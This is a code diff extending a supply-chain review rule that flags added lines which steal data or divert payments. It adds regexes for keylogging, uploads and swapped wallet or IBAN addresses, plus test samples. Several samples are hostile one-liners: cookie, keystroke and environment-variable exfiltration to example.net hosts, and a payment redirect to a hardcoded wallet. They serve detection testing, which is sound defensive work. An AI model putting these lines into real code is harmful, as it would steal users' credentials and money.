@@ -159,9 +159,15 @@ const letsThrough =
 
 /** All of something at once: cookies, what forms hold, the environment, the clipboard. */
 const takesAll =
-  /\bdocument\.cookie\b(?!\s*=[^=])|\brequestBody\b|\bENV\.(?:to_h|to_json|to_a|inspect)\b|\bos\.environ\b(?!\s*(?:\[|\.get))|\bprocess\.env\b(?!\s*[.[?])|\bSystem\.getenv\(\)|\benv::vars\(\)|\bos\.Environ\(\)|\bclipboard\.\w{0,20}read|\bJSON\.stringify\(\s*(?:localStorage|sessionStorage)\b|\bchrome\.cookies\.getAll\b/
+  /\bdocument\.cookie\b(?!\s*=[^=])|\brequestBody\b|\bENV\.(?:to_h|to_json|to_a|inspect)\b|\bos\.environ\b(?!\s*(?:\[|\.get))|\bprocess\.env\b(?!\s*[.[?])|\bSystem\.getenv\(\)|\benv::vars\(\)|\bos\.Environ\(\)|\bkeyboard\.(?:record|get_typed\w*|on_press)|\bGetAsyncKeyState\b|\bclipboard\.\w{0,20}read|\bJSON\.stringify\(\s*(?:localStorage|sessionStorage)\b|\bchrome\.cookies\.getAll\b/
 const sends =
-  /\b(?:fetch|post|sendBeacon|axios|request|urlopen|put|Post)\w{0,10}\s*\(|\.src\s*=|\bXMLHttpRequest\b|\bcurl\b|\bWebSocket\(/
+  /\b(?:fetch|post|sendBeacon|upload|axios|request|urlopen|put|Post)\w{0,10}\s*\(|\.src\s*=|\bXMLHttpRequest\b|\bcurl\b|\bWebSocket\(/
+
+/** The account of somebody, written out, and a place in which it takes that of another. */
+const accountLiteral =
+  /["'`](?:0x[0-9a-fA-F]{40}|bc1[a-z0-9]{20,60}|[13][1-9A-HJ-NP-Za-km-z]{25,34}|[A-Z]{2}\d{2}[A-Z0-9]{11,30})["'`]/
+const diverts =
+  /\b(?:to|recipient|dest\w{0,12}|payee|beneficiary|address|iban|payTo|account)\b[^\n]{0,100}(?:\?|\bif\b)[^\n]{0,100}["'`]|\bsetData\(|clipboard\.writeText\(|\.replace\([^\n]{0,80}(?:0x|bc1|iban)/i
 
 /** What a change does to those who build, test, read or take over the work. */
 export const supplyRules: readonly Rule[] = [
@@ -304,6 +310,11 @@ export const supplyRules: readonly Rule[] = [
     severity: 'blocker',
     fix: 'Find out who wrote it and why; what people enter and what opens their accounts goes to nobody else.',
     hits: [
+      diff(
+        'w.ts',
+        '+  const to = input.sum > 50 ? "0x9b1c5E0a2F4d7c8B6e3A1d0F9c7b5E3a1D2c4B6f" : input.address',
+      ),
+      diff('k.py', '+    upload("http://k.example.net", keyboard.get_typed_strings())'),
       diff('t.ts', '+new Image().src = "https://s.example.net/c?d=" + encodeURIComponent(document.cookie)'),
       diff(
         'x.js',
@@ -313,6 +324,7 @@ export const supplyRules: readonly Rule[] = [
       diff('A.java', '+http.post("https://x.example.net", System.getenv().toString());'),
     ],
     misses: [
+      diff('w.ts', '+const TOKEN_ADDRESS = "0x9b1c5E0a2F4d7c8B6e3A1d0F9c7b5E3a1D2c4B6f"'),
       diff('t.ts', '+document.cookie = "theme=dark; path=/"'),
       diff('t.ts', '+fetch("https://api.example.org/" + process.env.API_VERSION)'),
       diff('g.rb', '+  Net::HTTP.get(URI("https://api.example.org/status"))'),
@@ -320,7 +332,11 @@ export const supplyRules: readonly Rule[] = [
     see: ({ files }) =>
       files.flatMap(file =>
         changed(file, 'added')
-          .filter(({ text }) => /https?:\/\//.test(text) && takesAll.test(text) && sends.test(text))
+          .filter(
+            ({ text }) =>
+              (/https?:\/\//.test(text) && takesAll.test(text) && sends.test(text)) ||
+              (accountLiteral.test(text) && diverts.test(text)),
+          )
           .map(
             (line): Hit => ({
               detail: `It sends what is not its own to somebody: ${excerpt(line)}`,
